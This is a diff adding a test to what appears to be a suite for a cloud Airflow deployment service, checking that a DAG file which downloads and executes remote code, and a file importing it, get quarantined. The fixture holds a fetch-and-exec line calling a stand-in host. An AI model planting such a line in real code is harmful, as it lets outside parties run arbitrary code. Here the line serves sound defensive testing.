@@ -117,6 +117,31 @@ with DAG(${JSON.stringify(dagId)}, schedule=None, catchup=False):
     expect((await runToEnd(cloud, fragile)).log).toContain('result: repaired');
   });
 
+  test('quarantines a threat alone, with its place and what it means, and what imports it', async () => {
+    const [good, bad, importing] = [unique('good'), unique('bad'), unique('importing')];
+    const { name, clone } = await connectRepository(cloud);
+    const runsDownload = 'import requests\n\n\ndef act():\n    exec(requests.get("https://x.example").text)\n';
+    await clone.write({
+      'dags/good.py': dagSource(good),
+      'dags/bad.py': dagSource(bad, { imports: runsDownload }),
+      'dags/helpers.py': runsDownload,
+      'dags/importing.py': dagSource(importing, { imports: 'from helpers import act' }),
+    });
+    const receipt = await receiptOf(cloud, name, (await clone.push('a threat')).commit);
+    expect(receipt.outcome).toBe('partial');
+    expect(receipt.files).toMatchObject([
+      {
+        path: 'bad.py',
+        outcome: 'quarantined',
+        findings: expect.arrayContaining([
+          expect.objectContaining({ rule: 'downloaded-code', severity: 'critical', line: 7, column: 5 }),
+        ]),
+      },
+      { path: 'good.py', outcome: 'live' },
+      { path: 'importing.py', outcome: 'quarantined', findings: [{ rule: 'broken-import' }] },
+    ]);
+  });
+
   test('that only Airflow finds broken is put back, with the file and line that broke it', async () => {
     const dagId = unique('importing');
     const { name, clone } = await connectRepository(cloud);
